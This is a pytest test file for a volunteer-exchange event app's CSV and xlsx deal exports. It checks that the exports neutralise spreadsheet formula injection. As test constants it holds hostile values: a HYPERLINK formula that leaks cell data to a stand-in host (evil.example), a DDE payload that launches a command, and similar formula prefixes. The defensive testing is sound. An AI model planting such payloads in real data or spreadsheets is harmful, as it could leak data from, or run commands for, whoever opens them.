"""The organiser's export: one row per deal with both parties' contact details, as CSV and xlsx.

Whatever anyone typed stays text: a participant named ``=HYPERLINK(...)`` must not become a
formula in the organiser's spreadsheet program (CSV/formula injection).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from hub.deals import export
from hub.service import Hub
from kiosk.service import Kiosk
from tests.support import office
from tests.support.deals import deal_payload

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
EVIL_GIVES = "+1+cmd|' /C calc'!A0"
EVIL_BROKER = "@SUM(1+1)"


@pytest.fixture
def evening(tmp_path: Path):
    """A hub that has received one tablet's deals: a normal one, a voided one, a hostile one."""
    hub = Hub(tmp_path / "hub")
    hub.schedule_evening(
        {
            "name": "Frivilligbørs Sagene",
            "date": "2026-11-26",
            "opens_at": "17:45",
            "closes_at": "18:45",
            "target": 51,
        }
    )
    people = {
        name: hub.register_participant(
            {
                "name": name,
                "sector": sector,
                "contact_person": person,
                "email": email,
                "phone": phone,
            }
        )
        for name, sector, person, email, phone in [
            ("Sagene IF", "voluntary", "Ola Nordmann", "ola@sageneif.example", "+47 912 34 567"),
            ("Bydel Sagene", "public", "Kari Nordmann", "kari@bydel.example", "23 45 67 89"),
            (EVIL_NAME, "business", "-2+3", "mallory@evil.example", ""),
        ]
    }
    kiosk = Kiosk(tmp_path / "kiosk", name="Nettbrett 1")
    kiosk.absorb(hub.pull(0)["events"])

    def deal(a, b, gives_a="Lokale", gives_b="Kurs", **kw):
        return {
            "parties": [
                {"participant_id": people[a], "gives": gives_a},
                {"participant_id": people[b], "gives": gives_b},
            ],
            "category": kw.get("category", "premises"),
            "kind": "mutual",
            "deadline": "2027-02-26",
            "broker": kw.get("broker", "Kari"),
        }

    first = kiosk.register_deal(deal("Sagene IF", "Bydel Sagene"))
    voided = kiosk.register_deal(deal("Bydel Sagene", "Sagene IF", category="equipment"))
    kiosk.void_deal(voided.id, {"reason": "dobbel"})
    hostile = kiosk.register_deal(
        deal(EVIL_NAME, "Sagene IF", gives_a=EVIL_GIVES, gives_b="=1+2", broker=EVIL_BROKER)
    )
    hub.ingest({"device": str(kiosk.device_id), "events": kiosk.outbox(100)})
    yield hub, {"first": first, "voided": voided, "hostile": hostile}
    kiosk.close()
    hub.close()


def titles() -> list[str]:
    return [title for _, title in export.headers()]


def by_number(rows: list[dict]) -> dict[str, dict]:
    return {row["Nr."]: row for row in rows}


def csv_rows(body: bytes) -> list[dict]:
    assert body.startswith("\ufeff".encode())  # so Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def xlsx_rows(body: bytes) -> tuple[list[str], list[dict], object]:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    values = list(sheet.iter_rows(values_only=True))
    header = list(values[0])
    return header, [dict(zip(header, row, strict=True)) for row in values[1:]], sheet


def test_one_csv_row_per_deal_with_contact_details(evening):
    hub, deals = evening
    rows = csv_rows(export.to_csv(export.deal_rows(hub)))
    assert len(rows) == 3 and list(rows[0]) == titles()
    row = by_number(rows)[deals["first"].number]
    assert row["Part A"] == "Sagene IF" and row["Sektor A"] == "Frivillig"
    assert row["Kontaktperson A"] == "Ola Nordmann"
    assert row["E-post A"] == "ola@sageneif.example"
    # A phone number is digits and "+": no formula, so no apostrophe before it (issue 11).
    assert row["Telefon A"] == "+47 912 34 567"
    assert row["Part B"] == "Bydel Sagene" and row["Sektor B"] == "Offentlig"
    assert row["E-post B"] == "kari@bydel.example"
    assert (row["A gir"], row["B gir"]) == ("Lokale", "Kurs")
    assert (row["Kategori"], row["Type"]) == ("Sted å være", "Gi og få")
    assert row["Tidsfrist"] == "2027-02-26" and row["Børsmegler"] == "Kari"
    assert row["Nettbrett"] == "Nettbrett 1" and row["Status"] == "ok"
    assert by_number(rows)[deals["voided"].number]["Status"] == "annullert"


def test_english_export_translates_the_vocabulary(evening):
    hub, deals = evening
    row = by_number(csv_rows(export.to_csv(export.deal_rows(hub, "en"))))[deals["first"].number]
    assert (row["Sektor A"], row["Kategori"], row["Type"]) == (
        "Voluntary",
        "Premises",
        "Give and take",
    )


def test_csv_escapes_anything_a_spreadsheet_would_run(evening):
    hub, deals = evening
    row = by_number(csv_rows(export.to_csv(export.deal_rows(hub))))[deals["hostile"].number]
    assert row["Part A"] == "'" + EVIL_NAME
    assert row["A gir"] == "'" + EVIL_GIVES
    assert row["B gir"] == "'=1+2"
    assert row["Børsmegler"] == "'" + EVIL_BROKER
    assert row["Kontaktperson A"] == "'-2+3"
    assert row["Part B"] == "Sagene IF"  # ordinary text is left alone


def test_the_workbook_has_the_same_rows_as_the_csv(evening):
    hub, _ = evening
    rows = export.deal_rows(hub)
    header, xlsx, sheet = xlsx_rows(export.to_xlsx(rows, "Frivilligbørs Sagene"))
    assert header == titles()
    as_csv = csv_rows(export.to_csv(rows))
    for from_xlsx, from_csv in zip(xlsx, as_csv, strict=True):
        for title in titles():
            value = from_xlsx[title]
            if isinstance(value, dt.datetime):  # a date in the workbook, ISO text in CSV
                value = value.isoformat(sep=" ").removesuffix(" 00:00:00")
            value = "" if value is None else str(value)
            assert value == from_csv[title].removeprefix("'") or from_csv[title] == value
    assert sheet.title == "Avtaler" and sheet.freeze_panes == "A2"
    assert xlsx[0]["Telefon A"] == "+47 912 34 567"


def test_the_workbook_keeps_hostile_text_as_text(evening):
    hub, deals = evening
    body = export.to_xlsx(export.deal_rows(hub), "Frivilligbørs Sagene")
    _, rows, sheet = xlsx_rows(body)
    row = by_number(rows)[deals["hostile"].number]
    assert row["Part A"] == EVIL_NAME  # exactly as typed, not escaped…
    assert row["B gir"] == "=1+2"
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            assert cell.data_type != "f"  # …and never a formula
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_a_deal_of_three_lists_the_third_party(tmp_path):
    hub = Hub(tmp_path / "hub")
    kiosk = Kiosk(tmp_path / "kiosk")
    try:
        ids = [hub.register_participant({"name": n, "sector": "voluntary"}) for n in "ABC"]
        kiosk.absorb(hub.pull(0)["events"])
        kiosk.register_deal(
            {
                "parties": [
                    {"participant_id": pid, "gives": f"gave {i}"} for i, pid in enumerate(ids)
                ],
                "category": "culture",
                "kind": "mutual",
                "deadline": "2027-01-01",
            }
        )
        hub.ingest({"device": str(kiosk.device_id), "events": kiosk.outbox(100)})
        [row] = csv_rows(export.to_csv(export.deal_rows(hub)))
        assert row["Flere parter"] == "C: gave 2"
    finally:
        kiosk.close()
        hub.close()


def test_an_empty_evening_exports_just_the_header(tmp_path):
    hub = Hub(tmp_path / "hub")
    try:
        assert csv_rows(export.to_csv(export.deal_rows(hub))) == []
        header, rows, _ = xlsx_rows(export.to_xlsx(export.deal_rows(hub), "Tom"))
        assert header == titles() and rows == []
    finally:
        hub.close()


def test_the_workbook_has_dates_an_autofilter_and_a_sheet_of_every_participant(evening):
    hub, _ = evening
    lonely = hub.register_participant({"name": "Ensom Forening", "sector": "voluntary"})
    body = export.to_xlsx(
        export.deal_rows(hub), "Sagene", participants=export.participant_rows(hub)
    )
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    deals_sheet, people = workbook["Avtaler"], workbook["Deltakere"]
    header = [c.value for c in deals_sheet[1]]
    deadline = deals_sheet.cell(row=2, column=header.index("Tidsfrist") + 1)
    registered = deals_sheet.cell(row=2, column=header.index("Registrert") + 1)
    assert deadline.is_date and deadline.value.date() == dt.date(2027, 2, 26)
    assert registered.is_date and isinstance(registered.value, dt.datetime)
    assert deals_sheet.auto_filter.ref == deals_sheet.dimensions
    assert people.auto_filter.ref == people.dimensions
    names = {row[0]: row for row in people.iter_rows(min_row=2, values_only=True)}
    assert hub.evening.participants[lonely].name in names
    assert names["Ensom Forening"][-1] == 0  # no deal, still listed
    assert names["Bydel Sagene"][-1] == 1  # the voided deal is not counted
    assert names["Sagene IF"][4] == "ola@sageneif.example"


def test_status_marks_late_double_and_walk_in_deals(tmp_path):
    from hub.stage.service import close_hour, open_hour
    from tests.support.sync import pull

    hub = Hub(tmp_path / "hub")
    kiosk = Kiosk(tmp_path / "kiosk")
    try:
        a = hub.register_participant({"name": "Sagene IF", "sector": "voluntary"})
        b = hub.register_participant({"name": "Bydel Sagene", "sector": "public"})
        open_hour(hub)
        pull(kiosk, hub)
        deal = deal_payload(a, b)
        # The same handshake written down by two brokers: a suspected double.
        twice = [kiosk.register_deal({**deal, "broker": who}) for who in ("Kari", "Per")]
        walk_in = kiosk.register_deal(
            {
                **deal,
                "parties": [
                    {"walk_in": {"name": "Nabolaget", "sector": "voluntary"}, "gives": "Kaffe"},
                    {"participant_id": b, "gives": "Rom"},
                ],
                "category": "culture",
            }
        )
        hub.ingest({"device": str(kiosk.device_id), "events": kiosk.outbox(100)})
        close_hour(hub)
        late = hub.evening.deals[hub.register_deal({**deal, "category": "equipment"})]
        rows = by_number(csv_rows(export.to_csv(export.deal_rows(hub))))
        assert rows[late.number]["Status"] == "sen (etter gongen)"
        assert all("mulig dobbel" in rows[d.number]["Status"] for d in twice)
        assert rows[walk_in.number]["Uanmeldt A"] == "uanmeldt"
        assert rows[walk_in.number]["Uanmeldt B"] == ""
        assert rows[twice[0].number]["Uanmeldt A"] == ""
    finally:
        kiosk.close()
        hub.close()


@pytest.mark.slow
@pytest.mark.skipif(office.SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_dates_as_dates_and_both_sheets(evening, tmp_path):
    hub, deals = evening
    workbook = tmp_path / "avtaler.xlsx"
    workbook.write_bytes(
        export.to_xlsx(export.deal_rows(hub), "Sagene", participants=export.participant_rows(hub))
    )
    sheets = office.to_csv(workbook, tmp_path / "converted", every_sheet=True)
    assert set(sheets) == {"avtaler-Avtaler.csv", "avtaler-Deltakere.csv"}, sheets
    rows = list(csv.DictReader(io.StringIO(sheets["avtaler-Avtaler.csv"].read_text("utf-8"))))
    first = next(r for r in rows if r["Nr."] == deals["first"].number)
    # A date cell shown in its number format; a text cell would still read 2027-02-26.
    assert first["Tidsfrist"] == "26.02.2027"
    assert first["Telefon A"] == "+47 912 34 567"
    people = list(csv.DictReader(io.StringIO(sheets["avtaler-Deltakere.csv"].read_text("utf-8"))))
    assert {p["Navn"] for p in people} >= {"Sagene IF", "Bydel Sagene"}
